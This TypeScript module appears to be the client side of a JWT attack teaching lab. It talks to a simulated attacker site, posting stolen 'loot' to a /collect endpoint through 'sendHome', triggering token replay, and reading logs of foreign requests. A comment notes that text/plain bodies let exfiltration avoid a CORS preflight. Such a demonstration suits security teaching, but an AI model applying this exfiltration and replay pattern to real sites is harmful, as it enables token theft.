import type { ForeignRequest, Loot, ReplayResponse as Replay } from '@jwt-lab/shared';
import type { Exchange } from '../../lib/api-client';
import { attackerOriginFor } from './attacker-origin';

/**
 * The lab's two conversations: with this app (where the attacker lives, what other sites sent
 * here) and with the attacker's site (collector, replay). Neither needs a credential. The app's
 * answers go to the Request log like every API call; the attacker's do not, as they are not ours.
 * Answers are checked by shape before use, by small guards rather than the schema validator, which
 * the lab would otherwise pull into its chunk.
 */

export type LabResult<T> = { ok: true; value: T } | { ok: false; message: string };

// The lab's bodies are typed by the shared schemas (types only: nothing reaches the bundle).
export type { ForeignRequest, Loot, Refusal, ReplayAttempt, ReplayResponse as Replay } from '@jwt-lab/shared';

export interface LabApiOptions {
  fetch?: typeof fetch;
  onExchange?: (exchange: Exchange) => void;
  now?: () => number;
  pageHostname?: string;
}

export function createLabApi({
  fetch: send = (...args) => fetch(...args),
  onExchange = () => {},
  now = Date.now,
  pageHostname = location.hostname,
}: LabApiOptions = {}) {
  let attacker: Promise<LabResult<string>> | undefined;

  async function fromApp<T>(path: string, accept: (body: unknown) => body is T): Promise<LabResult<T>> {
    const record = (status: number | null) => onExchange({ method: 'GET', path, status, at: now(), carrier: 'none', csrfSent: false });
    let response: Response;
    try {
      response = await send(path, { headers: { accept: 'application/json' }, credentials: 'omit' });
    } catch {
      record(null);
      return { ok: false, message: 'The server could not be reached.' };
    }
    record(response.status);
    if (response.status === 404) return { ok: false, message: 'The attack lab is turned off on this server (ATTACK_LAB=false).' };
    const body: unknown = await response.json().catch(() => undefined);
    if (!response.ok || !accept(body)) return { ok: false, message: `GET ${path} answered ${response.status} with something the lab does not understand.` };
    return { ok: true, value: body };
  }

  async function toAttacker<T>(url: string, body: object, accept: (body: unknown) => body is T): Promise<LabResult<T>> {
    let response: Response;
    try {
      // A text body: a "simple" cross-origin request, the kind exfiltration uses because it needs no preflight.
      response = await send(url, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(body), credentials: 'omit' });
    } catch {
      return { ok: false, message: `The attacker's site (${new URL(url).origin}) could not be reached.` };
    }
    const answer: unknown = await response.json().catch(() => undefined);
    if (!response.ok || !accept(answer)) return { ok: false, message: `The attacker's site answered ${response.status}.` };
    return { ok: true, value: answer };
  }

  async function discoverAttacker(): Promise<LabResult<string>> {
    const info = await fromApp('/api/attack-lab', isAttackLabInfo);
    if (!info.ok) return info;
    if (info.value.attackerPort === null) return { ok: false, message: `The attacker's site is not running (the server was started without it).` };
    return { ok: true, value: attackerOriginFor(pageHostname, info.value.attackerPort) };
  }

  return {
    /** Asked once, when first needed: a visitor who never opens the lab never calls it. */
    attackerOrigin(): Promise<LabResult<string>> {
      attacker ??= discoverAttacker().then((result) => {
        if (!result.ok) attacker = undefined;
        return result;
      });
      return attacker;
    },
    sendHome: (attackerOrigin: string, kind: string, data: object) => toAttacker(`${attackerOrigin}/collect`, { kind, data }, isLoot),
    replay: (attackerOrigin: string, lootId: number) => toAttacker(`${attackerOrigin}/replay`, { lootId }, isReplay),
    foreignRequests: async (run: string): Promise<LabResult<ForeignRequest[]>> => {
      const answer = await fromApp(`/api/attack-lab/foreign-requests?run=${encodeURIComponent(run)}`, isForeignRequests);
      return answer.ok ? { ok: true, value: answer.value.requests } : answer;
    },
  };
}

export type LabApi = ReturnType<typeof createLabApi>;

const isObject = (value: unknown): value is Record<string, unknown> => typeof value === 'object' && value !== null && !Array.isArray(value);
const isNumberOrNull = (value: unknown) => value === null || typeof value === 'number';
const isStringOrNull = (value: unknown) => value === null || typeof value === 'string';

function isAttackLabInfo(body: unknown): body is { attackerPort: number | null } {
  return isObject(body) && isNumberOrNull(body.attackerPort);
}

function isLoot(body: unknown): body is Loot {
  return isObject(body) && typeof body.id === 'number' && typeof body.kind === 'string' && isStringOrNull(body.from) && isObject(body.data);
}

function isReplay(body: unknown): body is Replay {
  return (
    isObject(body) &&
    typeof body.lootId === 'number' &&
    typeof body.target === 'string' &&
    Array.isArray(body.attempts) &&
    body.attempts.every(
      (attempt) => isObject(attempt) && (attempt.credential === 'bearer' || attempt.credential === 'none') && isStringOrNull(attempt.tokenFrom) && isNumberOrNull(attempt.status),
    )
  );
}

function isForeignRequests(body: unknown): body is { requests: ForeignRequest[] } {
  return (
    isObject(body) &&
    Array.isArray(body.requests) &&
    body.requests.every(
      (entry) =>
        isObject(entry) &&
        typeof entry.seq === 'number' &&
        typeof entry.at === 'string' &&
        isStringOrNull(entry.run) &&
        typeof entry.method === 'string' &&
        typeof entry.path === 'string' &&
        typeof entry.status === 'number' &&
        isStringOrNull(entry.origin) &&
        isStringOrNull(entry.fetchSite) &&
        isStringOrNull(entry.contentType) &&
        isObject(entry.carried) &&
        isStringOrNull(entry.refusedBy),
    )
  );
}
